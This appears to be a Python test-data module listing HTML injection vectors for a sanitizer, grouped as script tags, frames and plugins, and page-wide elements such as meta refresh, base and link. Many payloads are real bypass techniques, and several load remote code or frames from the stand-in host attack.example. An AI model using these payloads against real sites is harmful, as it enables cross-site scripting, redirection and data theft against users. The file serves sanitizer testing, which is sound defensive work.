"""Scripts in their own element, in a frame or a plugin, and elements that speak for the whole page."""

from .table import kind

SCRIPT_TAGS = kind(
    "script tags",
    r'''
<script>hit=1</script>
<SCRIPT>alert(1)</SCRIPT>
<sCrIpT>hit=1</ScRiPt>
<script/any>hit=1</script/any>
<script/src=//attack.example/s.js></script>
<script src=https://attack.example/s.js></script>
<script src=//attack.example/s.js?
<script src=data:text/javascript,hit=1></script>
<script src="data:text/javascript;base64,aGl0PTE="></script>
<script type=module>window.hit=1</script>
<script type=module>import "https://attack.example/s.js"</script>
<script>/*</script><script>*/hit=1</script><script>hit=1</script>
<<script>hit=1//<</script>
</div><script>hit=1</script>
</p></article></main><script>hit=1</script>
<scr<script>ipt>hit=1</scr</script><script>hit=1</script>
<script>hit=1<!--</script>
<script>\nhit=1\n</script>
<!--><script>hit=1</script>-->
<!-- --!><script>hit=1</script>-->
<!x><script>hit=1</script>
<?x><script>hit=1</script>
<![CDATA[><script>hit=1</script>]]>
<img """><script>hit=1</script>">
<a title='>' ><script>hit=1</script>
<script x="</script><script>hit=1</script>"></script><script>hit=1</script>
<ul><script>hit=1</script><li>x</ul>
<table><script>hit=1</script><tr><td>x</table>
<select><script>hit=1</script></select>
<details open><summary><script>hit=1</script></summary></details>
<svg><script>hit=1</script></svg>
<svg><script>hit&#61;1</script></svg>
<svg><script href=data:text/javascript,hit=1 /></svg>
<svg><script xlink:href=//attack.example/s.js></script></svg>
<script for=window event=onload>hit=1</script>
<script type=speculationrules>{"prerender":[{"urls":["https://attack.example/"]}]}</script>
''',
    silent=r"""
<scrscriptipt>hit=1</scrscriptipt>
< script>hit=1</ script>
&lt;script&gt;hit=1&lt;/script&gt;
%3Cscript%3Ehit=1%3C/script%3E
<script type=vbscript>hit=1</script>
<!--[if gte IE 4]><script>hit=1</script><![endif]-->
<xml id=x><i><b>&lt;script&gt;hit=1&lt;/script&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>
{{constructor.constructor('hit=1')()}}
""",
)

FRAMES = kind(
    "frames and plugins",
    r"""
<iframe src=https://attack.example/f></iframe>
<iframe src=javascript:parent.hit=1></iframe>
<iframe srcdoc="<script>parent.hit=1</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.hit=1&gt;"></iframe>
<iframe src="data:text/html,<img src=https://attack.example/i>"></iframe>
<iframe src="data:text/html;base64,PGltZyBzcmM9aHR0cHM6Ly9hdHRhY2suZXhhbXBsZS9pPg=="></iframe>
<IFRAME SRC=//attack.example/f
<iframe onload=hit=1></iframe>
<object data=https://attack.example/o></object>
<object data="data:text/html,<img src=https://attack.example/i>"></object>
<object data=/ onload=hit=1></object>
<object data=/nothing-here/ onerror=hit=1></object>
<embed src=https://attack.example/e>
<embed src=/ onload=hit=1>
<embed src="data:text/html,<img src=https://attack.example/i>" type=text/html>
<object type=text/x-scriptlet data=//attack.example/o.sct></object>
""",
    silent=r"""
<iframe src="data:text/html,<script>parent.hit=1</script>"></iframe>
<frameset><frame src=javascript:parent.hit=1></frameset>
<frame src=//attack.example/f>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:hit=1></object>
<object data=javascript:parent.hit=1></object>
<embed src=//attack.example/e.swf allowscriptaccess=always type=application/x-shockwave-flash>
<applet code=hit archive=//attack.example/a.jar></applet>
<layer src=//attack.example/l></layer>
<portal src=https://attack.example/></portal>
<fencedframe src=https://attack.example/></fencedframe>
<bgsound src=//attack.example/s.wav>
""",
)

WHOLE_PAGE = kind(
    "refresh, base and link elements",
    r"""
<meta http-equiv=refresh content="0;url=https://attack.example/">
<meta http-equiv=refresh content="0; //attack.example/">
<META HTTP-EQUIV="Refresh" CONTENT="0;URL='//attack.example/'">
<p><meta http-equiv="&#114;efresh" content="0,url=//attack.example/"></p>
<base href=//attack.example/><img src=x>
<base href=https://attack.example/><a href=x>x</a>
<base href="/\attack.example/"><iframe src=f></iframe>
<link rel=stylesheet href=//attack.example/c.css>
<link rel="alternate stylesheet" title=x href=//attack.example/c.css>
<link rel=stylesheet href="data:text/css,@import'https://attack.example/c.css'">
<link rel=stylesheet href="data:text/css,p{background:url(https://attack.example/b)}"><p>x
<link rel=preload as=image href=//attack.example/i>
<link rel=modulepreload href=//attack.example/s.js>
<link rel=prefetch href=//attack.example/p>
<link rel=stylesheet href=/nothing-here.css onerror=hit=1>
<link rel=stylesheet href=data:text/css, onload=hit=1>
<style onload=hit=1></style>
""",
    silent=r"""
<meta http-equiv=refresh content="0;url=javascript:hit=1">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=Link content="<//attack.example/c.css>; rel=stylesheet">
<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri //attack.example/r"><img src=x>
<meta charset=utf-7>+ADw-script+AD4-hit=1+ADw-/script+AD4-
<base href="javascript:hit=1//"><a href=//>x</a>
<link rel=import href=//attack.example/h.html>
<link rel=dns-prefetch href=//attack.example/>
<link rel=manifest href=//attack.example/m.json>
<head><isindex prompt=hit action=//attack.example/></head>
""",
)
